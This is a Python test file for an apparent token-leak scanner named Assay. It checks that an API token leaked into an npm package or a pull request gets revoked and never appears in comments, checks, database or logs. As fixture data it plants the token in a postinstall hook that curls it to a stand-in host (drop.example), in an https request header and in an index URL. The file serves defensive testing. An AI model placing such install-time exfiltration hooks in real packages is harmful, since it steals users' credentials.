"""A token of Assay in a package, or in a line of a pull request: revoked before the review is over, and seen nowhere."""

from __future__ import annotations

import io
import json
import secrets
from collections.abc import Iterator

import pytest

from app.core.access import Access, Scope
from app.core.audit import Deed
from app.core.issuing import Wanted
from app.issuer import Actor, Issuer, Made
from app.token_settings import a_pepper
from tests.stories.theatre import GREETER, Theatre, npm_files
from tests.traces import dump, secret_of, written_log
from worker.leaks import Leaks

PEPPER = a_pepper("a pepper for the tests, long enough for one")


@pytest.fixture
def watchful(house: Theatre) -> Theatre:
    """A house whose worker has the pepper."""
    house.leaks = Leaks(issuer(house))
    return house


@pytest.fixture
def log() -> Iterator[io.StringIO]:
    """What the worker logs, as it would be written."""
    with written_log() as written:
        yield written


def issuer(house: Theatre) -> Issuer:
    return Issuer(house.store, (PEPPER,), clock=house.clock, entropy=secrets.token_bytes)


def a_token(house: Theatre) -> Made:
    """A token that somebody holds."""
    made = issuer(house).create(Wanted("ci", Access(frozenset({Scope.PACKAGES_READ}))), Actor())
    assert isinstance(made, Made)
    return made


def is_revoked(house: Theatre, one: Made) -> bool:
    kept = house.store.tokens.get(one.credential.id)
    assert kept is not None
    return kept.revoked_at is not None


def told(house: Theatre) -> list[str]:
    """What the owners of tokens read in the audit."""
    return [link.event.detail for link in house.store.audit.read(99, deed=Deed.LEAKED)]


def test_a_token_in_a_package_is_revoked_and_seen_nowhere(watchful: Theatre, log: io.StringIO) -> None:
    one = a_token(watchful)
    text = one.token.text
    old = watchful.publish("left", "1.0.0")
    new = watchful.publish(
        "left",
        "1.0.1",
        {
            **GREETER,
            "lib/ask.js": f"require('https').request({{headers: {{authorization: 'Bearer {text}'}}}});\n",
            ".env": f"ASSAY_TOKEN={text}\n",
        },
        scripts={"postinstall": f"curl -H 'Authorization: Bearer {text}' https://drop.example"},
        license=f"see {text}",
    )
    repository = watchful.repository(npm_files({"left": ("1.0.0", old)}))
    pull = watchful.github.open_pull(repository, "Upgrade left", npm_files({"left": ("1.0.1", new)}))
    watchful.settle()

    assert is_revoked(watchful, one)
    (place, *_) = told(watchful)
    assert place.startswith("npm/left@1.0.1 (left-1.0.1.tgz): ")
    check = watchful.check(pull)
    said = [
        str(check.title),
        str(check.summary),
        json.dumps(check.annotations),
        *(comment.body for comment in watchful.comments(pull)),
        *(line.body for line in watchful.line_comments(pull)),
        dump(watchful.settings.database_url),
        log.getvalue(),
    ]
    assert one.credential.id in log.getvalue(), "the log speaks of it, by its id"
    secret = secret_of(text)
    assert [shown for shown in said if secret in shown] == []
    assert "an API token of Assay" in watchful.comment(pull)


def test_a_token_in_a_pull_request_is_revoked_and_seen_nowhere(watchful: Theatre, log: io.StringIO) -> None:
    """Also where a dependency file or the policy is wrong because of it, and its line would be quoted."""
    one = a_token(watchful)
    text = one.token.text
    files = {
        "README.md": f"curl -H 'Authorization: Bearer {text}'\n",
        "requirements.txt": f"{text}\nleft=={text}\n--index-url https://user:{text}@drop.example/simple\n",
        ".github/assay.yml": f"version: 1\n{text}: 1\n",
        f"docs/{text}.md": "a name\n",
    }
    repository = watchful.repository({"README.md": "one\n", ".github/assay.yml": "version: 1\n"})
    pull = watchful.github.open_pull(repository, "Explain", files)
    watchful.settle()

    assert is_revoked(watchful, one)
    (place,) = told(watchful)
    assert place == f"{repository.full_name}#{pull.number}: .github/assay.yml line 2"
    secret = secret_of(text)
    check = watchful.check(pull)
    said = {
        "check": f"{check.title} {check.summary} {json.dumps(check.annotations)}",
        "comments": " ".join(comment.body for comment in watchful.comments(pull)),
        "lines": " ".join(line.body for line in watchful.line_comments(pull)),
        "database": dump(watchful.settings.database_url),
        "log": log.getvalue(),
    }
    assert [name for name, shown in said.items() if secret in shown] == []


def test_without_a_pepper_nothing_happens(house: Theatre) -> None:
    one = a_token(house)
    repository = house.repository({"README.md": "one\n"})
    house.github.open_pull(repository, "Explain", {"README.md": one.token.text})
    house.settle()
    assert not is_revoked(house, one)
